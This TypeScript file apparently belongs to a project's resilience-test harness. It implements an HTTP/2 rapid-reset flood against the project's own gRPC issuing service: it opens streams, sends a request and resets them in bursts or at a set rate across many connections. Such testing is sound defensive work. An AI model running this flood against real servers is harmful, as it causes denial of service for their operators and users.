// Calls that are reset as soon as they have begun: in bursts as large as the socket takes, or a few a second for ever.

import { create, toBinary } from '@bufbuild/protobuf';
import { IssueRequestSchema } from '../../../src/gen/ect/v1/authority_pb.ts';
import { begin, reset } from '../../http2-server/raw-frames.ts';
import { frame } from '../../support/rpc-clients.ts';
import { type Attack, keepOpen, wait } from '../attacker/attack.ts';
import { callBlock, finish, openPeer } from '../attacker/http2-peer.ts';
import { tally } from '../attacker/tally.ts';

const BURST = 200;

/** Options: `connections`, `perSecond` on each (0: as fast as it goes), `type` (a content type), `resets`: `at once` or `later`. */
export const attack: Attack = async ({ target, options }) => {
  const { connections, perSecond, type, resets } = options;
  const block = callBlock(target, '/ect.v1.AuthorityService/Issue', String(type));
  const message = create(IssueRequestSchema, { execAct: 'review', aud: ['urn:example:reviewer'] });
  const body = frame(toBinary(IssueRequestSchema, message));
  const [burst, pauseMs] = Number(perSecond) === 0 ? [BURST, 0] : [1, 1000 / Number(perSecond)];
  return (until) =>
    keepOpen(Number(connections), until, async () => {
      const peer = await openPeer(target);
      while (!until.aborted && !peer.isClosed()) {
        const ids = Array.from({ length: burst }, () => peer.nextId());
        tally('resets', burst);
        if (resets === 'at once')
          await peer.push(...ids.flatMap((id) => [begin(id, block), finish(id, body), reset(id)]));
        else {
          await peer.push(...ids.flatMap((id) => [begin(id, block), finish(id, body)]));
          await wait(2, until);
          await peer.push(...ids.map(reset));
        }
        await wait(pauseMs, until);
      }
    });
};
